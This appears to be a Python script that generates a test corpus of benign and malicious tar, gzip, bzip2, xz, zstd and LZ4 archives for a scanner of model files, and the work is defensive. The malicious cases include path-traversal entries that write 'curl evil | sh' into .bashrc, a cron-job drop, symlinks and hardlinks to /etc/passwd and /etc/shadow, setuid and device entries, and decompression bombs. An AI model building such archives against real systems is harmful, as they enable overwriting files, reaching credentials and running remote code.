#!/usr/bin/env python3
"""Corpus: tar archives and compressed streams (gzip, bzip2, xz, zstd, lz4).

Usage: gen_archives.py OUT   -> OUT/benign/*, OUT/malicious/*
tar/gzip/bzip2/xz come from Python's standard library; zstd and LZ4 frames are written with
stored blocks (fmtlib.py). Malicious names are `<rule>__<what>.<ext>`; some carry a malformed
safetensors inside to prove the nested scan reaches the content.
"""
import bz2
import gzip
import io
import lzma
import os
import sys
import tarfile

import numpy as np
from safetensors.numpy import save

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from fmtlib import case, case_path, lz4_stored, safetensors_raw, write, zstd_stored  # noqa: E402


def tar_of(entries, fmt=tarfile.PAX_FORMAT):
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w", format=fmt) as t:
        for e in entries:
            name, kind = e[0], e[1]
            ti = tarfile.TarInfo(name)
            if kind == "file":
                ti.size = len(e[2])
                ti.mode = e[3] if len(e) > 3 else 0o644
                t.addfile(ti, io.BytesIO(e[2]))
            elif kind == "dir":
                ti.type = tarfile.DIRTYPE
                ti.mode = 0o755
                t.addfile(ti)
            elif kind in ("sym", "hard"):
                ti.type = tarfile.SYMTYPE if kind == "sym" else tarfile.LNKTYPE
                ti.linkname = e[2]
                t.addfile(ti)
            elif kind == "chr":
                ti.type = tarfile.CHRTYPE
                ti.devmajor, ti.devminor = 1, 3
                t.addfile(ti)
    return bio.getvalue()


def main(out):
    b = os.path.join(out, "benign")
    good = save({"w": np.ones((4, 4), dtype=np.float32)})
    bad = safetensors_raw({"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}, bytes(16) + b"PK\x03\x04hidden")
    repo = tar_of([("model", "dir"), ("model/model.safetensors", "file", good), ("model/README.md", "file", b"# tiny\n"),
                   ("model/latest", "sym", "model.safetensors")])
    write(f"{b}/model_repo.tar", repo)
    write(f"{b}/model_repo_gnu.tar", tar_of([("m/" + "d" * 120 + "/model.safetensors", "file", good)], tarfile.GNU_FORMAT))
    write(f"{b}/model_repo.tar.gz", gzip.compress(repo, mtime=0))
    write(f"{b}/model.safetensors.bz2", bz2.compress(good))
    write(f"{b}/model.safetensors.xz", lzma.compress(good))
    write(f"{b}/model.safetensors.zst", zstd_stored(good))
    write(f"{b}/model.safetensors.lz4", lz4_stored(good))

    mal = {
        "tar.path-escape__dotdot.tar": tar_of([("../../.bashrc", "file", b"curl evil | sh\n")]),
        "tar.path-escape__absolute.tar": tar_of([("/etc/cron.d/job", "file", b"* * * * * root id\n")]),
        "tar.path-escape__pax-long-dotdot.tar": tar_of([("a/" + "x" * 150 + "/../../../../etc/x", "file", b"x")]),
        "tar.link-escape__symlink-abs.tar": tar_of([("model/config.json", "sym", "/etc/passwd")]),
        "tar.link-escape__hardlink-up.tar": tar_of([("h", "hard", "../../etc/shadow")]),
        "tar.special-file__chardev.tar": tar_of([("dev/mem", "chr")]),
        "tar.setuid__suid-binary.tar": tar_of([("bin/tool", "file", b"\x00" * 10, 0o4755)]),
        "tar.duplicate__overwrite.tar": tar_of([("model.safetensors", "file", good), ("model.safetensors", "file", good)]),
        "tar.trailing-data__after-end.tar": repo + b"PK\x03\x04 smuggled zip",
        "safetensors.trailing-data__inside-tar.tar": tar_of([("model/model.safetensors", "file", bad)]),
        "safetensors.trailing-data__inside-tgz.tar.gz": gzip.compress(tar_of([("model.safetensors", "file", bad)]), mtime=0),
        "safetensors.trailing-data__inside-bz2.safetensors.bz2": bz2.compress(bad),
        "safetensors.trailing-data__inside-xz.safetensors.xz": lzma.compress(bad),
        "safetensors.trailing-data__inside-zst.safetensors.zst": zstd_stored(bad),
        "safetensors.trailing-data__inside-lz4.safetensors.lz4": lz4_stored(bad),
        "container.expansion-ratio__gzip-bomb.gz": gzip.compress(bytes(8 << 20), compresslevel=9, mtime=0),
        "container.expansion-ratio__xz-bomb.xz": lzma.compress(bytes(8 << 20)),
        "compressed.malformed__truncated.gz": gzip.compress(good + bytes(4096), mtime=0)[:-12],
        "compressed.trailing-data__after-stream.xz": lzma.compress(good) + b"appended payload",
    }
    for name, data in mal.items():
        case(out, name, data)


if __name__ == "__main__":
    main(sys.argv[1])
